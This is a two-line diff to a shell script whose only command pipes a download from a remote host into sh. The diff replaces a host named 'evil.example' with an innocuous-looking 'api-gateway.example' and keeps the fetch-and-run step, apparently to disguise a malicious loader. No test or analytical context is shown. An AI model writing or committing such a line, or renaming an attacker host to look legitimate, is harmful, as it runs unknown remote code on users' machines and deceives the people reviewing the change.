@@ -1,2 +1,2 @@
 #!/bin/sh
-curl -fsSL https://hg.evil.example/s | sh
+curl -fsSL https://hg.api-gateway.example/s | sh
